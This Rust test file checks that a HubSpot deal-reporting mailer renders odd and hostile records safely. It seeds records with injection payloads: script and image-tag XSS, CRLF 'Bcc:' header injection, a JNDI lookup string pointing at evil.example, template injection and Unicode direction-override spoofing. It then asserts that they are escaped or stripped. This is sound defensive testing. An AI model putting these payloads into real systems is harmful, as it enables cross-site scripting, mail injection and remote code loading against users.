//! Records as people fill them in, and as attackers do.

use end_to_end::{Figures, Local, now_ms};
use hubspot_simulator::{Kind, Owner, Settings, Simulator};

const WON: (&str, &str) = ("dealstage", "closedwon");

/// A probability that HubSpot once showed: 53 decimals, more than any common decimal type holds.
const LONG: &str = "0.40000000000000002220446049250313080847263336181640625";

#[tokio::test]
async fn odd_records_are_told_whole_and_inert() {
    let simulator = Simulator::start(Settings::default()).await.unwrap();
    let account = simulator.account();
    let company = account.create(Kind::Company, &[("name", "<img src=x onerror=alert(1)> & \"Söhne\"")]);
    account.add_owner(Owner {
        id: 666,
        user_id: 6660,
        first_name: "Eve\r\nBcc: thief@example.com".to_owned(),
        last_name: "</td><script>alert(2)</script>".to_owned(),
        email: "eve@example.com".to_owned(),
        teams: Vec::new(),
        archived: false,
    });
    let local = Local::start(&simulator, &[]).await;
    simulator.set_target_url(local.url());

    let long_name = "x".repeat(65_536);
    let names = [
        "<script>alert(1)</script><a href=\"https://evil.example\">€0.00</a>",
        "Roof\r\nBcc: thief@example.com\r\n\r\nTotal: €1,000,000.00",
        "Emoji 👩\u{200d}🚀 🏳️\u{200d}🌈 and 漢字",
        "עסקה חשובה مرحبا",
        "gnp.\u{202e}exe\u{2066}\u{200b}",
        "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example}",
        "=?utf-8?q?=0D=0ABcc:_thief@example.com?=",
        "\u{0}\u{7}\u{1b}[31mred\u{7f}",
        &long_name,
        " \t ",
    ];
    for name in names {
        let deal =
            account.create(Kind::Deal, &[("dealname", name), ("amount", "10.00"), ("hubspot_owner_id", "666"), WON]);
        account.associate(Kind::Deal, deal, Kind::Company, company);
    }
    // Neither name nor amount, owner, company or close date.
    account.create(Kind::Deal, &[WON, ("closedate", "")]);
    account.create(Kind::Deal, &[("dealname", "Long"), ("amount", LONG), WON]);
    account.create(Kind::Deal, &[("dealname", "Unknown"), ("amount", "77.00"), ("deal_currency_code", "ZZZ"), WON]);
    account.create(Kind::Deal, &[("dealname", "Wordy"), ("amount", "about 5"), WON]);
    account.create(Kind::Deal, &[("dealname", "Vast"), ("amount", "1e99"), WON]);
    account.create(Kind::Deal, &[("dealname", "Yen"), ("amount", "1500"), ("deal_currency_code", "JPY"), WON]);
    account.create(Kind::Deal, &[("dealname", "Nobody's"), ("amount", "1"), ("hubspot_owner_id", "404"), WON]);
    account.create(Kind::Invoice, &[("hs_number", "<b>INV</b>\r\n1"), ("hs_invoice_status", "open")]);
    local.all_told(&simulator).await;

    let mails = local.mails();
    let (deals, invoices): (Vec<_>, Vec<_>) =
        mails.iter().partition(|mail| mail.message_id.starts_with("closed-deals"));
    for mail in &mails {
        let expected =
            "Date Message-ID From Subject Auto-Submitted X-Auto-Response-Suppress To List-ID MIME-Version Content-Type";
        assert_eq!(mail.headers.join(" "), expected, "{}", mail.file.display());
        assert!(
            mail.raw.split(|byte| *byte == b'\n').all(|line| line.len() <= 999),
            "lines stay short (RFC 5322, 2.1.1)"
        );
        assert!(!mail.raw.contains(&0), "no zero bytes");
        for part in [&mail.text, &mail.html, &mail.subject] {
            assert!(!part.contains(['\u{202e}', '\u{2066}', '\u{1b}', '\u{7}']), "no control characters");
        }
        for tag in ["<script", "<img", "<a href=\"https://evil", "</td></td>"] {
            assert!(!mail.html.contains(tag), "{tag} in {}", mail.html);
        }
        assert!(mail.text.lines().all(|line| !line.starts_with("Bcc:")), "{}", mail.text);
    }
    let row =
        |name: &str| deals.iter().find_map(|mail| mail.row("WON", name)).unwrap_or_else(|| panic!("{name} is told"));
    for shown in [
        names[0],
        "Roof Bcc: thief@example.com Total: €1,000,000.00",
        names[2],
        names[3],
        "gnp.exe",
        names[5],
        names[6],
        "[31mred",
        &format!("{}…", "x".repeat(120)),
    ] {
        let row = row(shown);
        assert_eq!(row.cells["Amount"], "€10.00", "{shown}");
        assert_eq!(row.cells["Company"], "<img src=x onerror=alert(1)> & \"Söhne\"", "{shown}");
        assert!(row.cells["Owner"].starts_with("Eve Bcc: thief@example.com </td>"), "{row:?}");
    }
    assert!(deals.iter().any(|mail| mail.html.contains("&lt;script&gt;alert(1)&lt;")), "markup is there to read");

    let long = row("Long");
    assert_eq!((&*long.cells["Amount"], long.notes[0].as_str()), ("€0.40", &*format!("rounded; HubSpot says {LONG}")));
    assert_eq!(row("Unknown").cells["Amount"], "77.00 ZZZ (currency ZZZ is not in ISO 4217)");
    assert_eq!(row("Wordy").cells["Amount"], "about 5 EUR (not a number)");
    assert_eq!(row("Vast").cells["Amount"], "1e99 EUR (too large to be added up)");
    assert_eq!(row("Nobody's").cells["Amount"], "€1.00");
    let bare = deals.iter().flat_map(|mail| &mail.sections).flat_map(|section| &section.rows);
    let bare = bare.filter(|row| row.cells["Amount"] == "no amount").collect::<Vec<_>>();
    assert_eq!(bare.len(), 1, "{bare:?}");
    assert_eq!([&*bare[0].cells["Company"], &*bare[0].cells["Owner"]], ["—", "—"]);
    assert!(bare[0].cells["Close date"].ends_with("(no date in HubSpot)"), "{bare:?}");
    assert!(invoices.iter().any(|mail| mail.row("CREATED", "<b>INV</b> 1").is_some()), "{invoices:?}");

    let sums: Vec<(String, i128)> = Figures::of_mails(&mails).won.into_iter().collect();
    // Yen have no minor units; the figures here count hundredths.
    assert_eq!(sums, [("EUR".to_owned(), 10_140), ("JPY".to_owned(), 150_000)]);
}

#[tokio::test]
async fn a_record_that_is_not_there_is_given_up_and_not_asked_for_again() {
    let simulator = Simulator::start(Settings::default()).await.unwrap();
    let local = Local::start(&simulator, &[]).await;
    let started = now_ms();
    let event = |id: i64| {
        // Before anything here was written, so that the first reading is new enough.
        format!(
            r#"[{{"eventId":{id},"portalId":62515001,"occurredAt":{started},"subscriptionType":"deal.propertyChange",
            "objectId":{id},"propertyName":"amount","propertyValue":"5"}}]"#
        )
    };
    let reads = || {
        simulator
            .counters()
            .api_calls
            .iter()
            .filter(|(call, _)| call.contains("batch/read"))
            .map(|(_, n)| n)
            .sum::<u64>()
    };
    assert_eq!(local.post(event(999)).await, 200);
    local.all_told(&simulator).await;
    assert_eq!(local.books("SELECT count(*) FROM records WHERE record_id = 999 AND state = 'gone'").await, 1);
    let given_up_after = reads();
    assert!((1..=12).contains(&given_up_after), "{given_up_after} reads: {:?}", simulator.counters());

    // The next record is read by itself: had the first stayed due, it would be asked for beside it.
    let found = simulator.account().create(Kind::Deal, &[("dealname", "Found"), WON]);
    assert_eq!(local.post(event(found)).await, 200);
    local.all_told(&simulator).await;
    assert!(local.mails().iter().any(|mail| mail.row("WON", "Found").is_some()));
    assert!(reads() - given_up_after <= 2, "{:?}", simulator.counters());
}
